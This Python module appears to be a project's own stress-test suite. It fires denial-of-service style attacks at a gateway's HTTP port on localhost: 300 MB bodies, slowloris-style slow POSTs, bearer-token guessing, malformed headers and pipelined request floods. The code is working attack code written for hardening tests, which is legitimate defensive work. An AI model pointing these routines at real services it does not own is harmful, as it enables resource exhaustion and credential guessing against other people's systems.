"""Attacks on the port of operators' HTTP.

Knows nothing of chargers.
"""

from __future__ import annotations

import socket
import time
from collections.abc import Callable
from contextlib import suppress
from itertools import count

from hostile.attack import Target, attack
from hostile.wire import connect

MB = 1 << 20
WORKERS = ("--workers", "2")


def head(target: Target, length: int, kind: str = "application/json", authorization: str = "", path: str = "/command/") -> bytes:
    """The head of a POST request."""
    shown = f"Authorization: {authorization}\r\n" if authorization else ""
    return (
        f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1:{target.http}\r\nContent-Type: {kind}\r\n{shown}Content-Length: {length}\r\n\r\n"
    ).encode()


def post(target: Target, head: bytes, chunk: bytes, times: int) -> None:
    """One request, whose body is sent as long as the gateway takes it."""
    with suppress(OSError), connect(target.http, timeout=max(1.0, target.seconds)) as connection:
        target.counts["requests"] += 1
        connection.sendall(head)
        for _ in range(times):
            connection.sendall(chunk)
            target.counts["bytes"] += len(chunk)
            if not target.lasts:
                return
        target.counts[f"status {connection.recv(4096)[9:12].decode() or 'none'}"] += 1


def bodies(name: str, number: str, how: str, kind: str, megabytes: int, chunk: Callable[[], bytes], authorization: str = "") -> None:
    """An attack with bodies of this kind, on one process and on several."""

    def run(target: Target) -> None:
        data = chunk()
        first = head(target, megabytes * MB, kind, authorization)
        target.begin()
        while target.lasts:
            post(target, first, data, megabytes * MB // len(data))
            target.pause(0.01)

    attack(name, number, how)(run)
    attack(f"{name}, two workers", number, how, options=WORKERS)(run)


def form() -> bytes:
    return b"a=b&" * (MB // 4)


def multipart() -> bytes:
    part = b'--hostile\r\nContent-Disposition: form-data; name="a"\r\n\r\nb\r\n'
    return (part * (MB // len(part) + 1))[:MB]


bodies("bodies of 300 MB", "F4", "JSON with a wrong token", "application/json", 300, lambda: b"[" + b" " * (MB - 1), "Bearer wrong")
bodies("forms of 60 MB", "F4", "a=b&a=b&… without a token", "application/x-www-form-urlencoded", 60, form)
bodies("multipart of 30 MB", "F4", "half a million parts, without a token", "multipart/form-data; boundary=hostile", 30, multipart)


@attack("slow POSTs", "F10", "1,000, a byte every second", seconds=8)
def slow_posts(target: Target) -> None:
    first = head(target, 100_000)
    target.begin()
    connections: list[socket.socket] = []
    while target.lasts and len(connections) < 1000:
        try:
            connections.append(connect(target.http, timeout=1))
            connections[-1].sendall(first)
            connections[-1].setblocking(False)
        except OSError:
            target.counts["refused"] += 1
            target.pause(0.05)
    target.counts["connections"] += len(connections)
    while target.lasts:
        due = time.monotonic() + 1
        for each in connections:
            with suppress(OSError):
                each.send(b" ")
        target.pause(due - time.monotonic())


@attack("commands that wait", "-", "1,500 requests with a ttl of a day, token known, for a charger that is not there", seconds=8)
def waiting_commands(target: Target) -> None:
    bodies = [b'{"cp_id":"nobody","command":"clear_cache","data":{},"id":"w%d","ttl":86400}' % number for number in range(1500)]
    requests = [head(target, len(body), authorization=f"Bearer {target.token}") + body for body in bodies]
    target.begin()
    connections = []
    for each in requests:
        if not target.lasts:
            break
        try:
            connections.append(connect(target.http, timeout=1))
            connections[-1].sendall(each)
        except OSError:
            target.counts["refused"] += 1
    target.counts["requests"] += len(connections)
    target.pause(target.seconds)
    for each in connections:
        each.close()


@attack("guesses of the token", "A2, F10", "on one connection, as fast as they go")
def token_guesses(target: Target) -> None:
    target.begin()
    ask(target, lambda number: f"Authorization: Bearer guess{number}\r\n".encode())


@attack("headers and paths that are no text", "F11", "on one connection, as fast as they go")
def odd_headers(target: Target) -> None:
    lines = [b"Authorization: \xff\xfe\r\n", b"Host: x..y\r\n", b"Host: " + b"a" * 300 + b".example\r\n", b"Content-Type: \xff\r\n"]
    target.begin()
    ask(target, lambda number: lines[number % len(lines)], lambda number: b"/%ff" if number % 5 == 0 else b"/api/chargers")


def ask(target: Target, line: Callable[[int], bytes], path: Callable[[int], bytes] = lambda number: b"/api/chargers") -> None:
    """GET requests one after the other, with a line that is different in each; connect again when the connection is closed."""
    connection: socket.socket | None = None
    for number in count():
        if not target.lasts:
            return
        try:
            connection = connection or connect(target.http, timeout=2)
            more = line(number)
            host = b"" if more.startswith(b"Host") else b"Host: 127.0.0.1\r\n"
            connection.sendall(b"GET %s HTTP/1.1\r\n%s%s\r\n" % (path(number), host, more))
            heard = connection.recv(1 << 16)
            target.counts[f"status {heard[9:12].decode() or 'none'}"] += 1
            if not heard:
                raise ConnectionResetError
        except OSError:
            target.counts["closed"] += 1
            connection = None


HEALTH_CHECK = b"GET /healthz HTTP/1.1\r\nHost: a\r\n\r\n"


@attack("pipelined requests", "-", "3,500 health checks in one write, without a token, again once they are answered")
def pipelined(target: Target) -> None:
    target.begin()
    while target.lasts:
        with suppress(OSError), connect(target.http, timeout=2) as connection:
            target.counts["pipelines"] += 1
            connection.sendall(HEALTH_CHECK * 3500)
            answers = 0
            while target.lasts and answers < 3500 and (heard := connection.recv(1 << 16)):
                answers += heard.count(b"HTTP/1.1 ")
            target.counts["answers"] += answers


@attack(
    "pipelined requests, 50 connections unread", "-", "as many as each of them takes, without a token; no answer is ever read", seconds=8
)
def pipelined_unread(target: Target) -> None:
    chunk = HEALTH_CHECK * 1000
    connections: list[socket.socket | None] = [None] * 50
    target.begin()
    while target.lasts:
        for number, connection in enumerate(connections):
            try:
                if connection is None:
                    connection = connections[number] = connect(target.http, timeout=1)
                    connection.setblocking(False)
                    target.counts["connections"] += 1
                target.counts["bytes"] += connection.send(chunk)
            except BlockingIOError:
                pass
            except OSError:
                connections[number] = None
        target.pause(0.005)
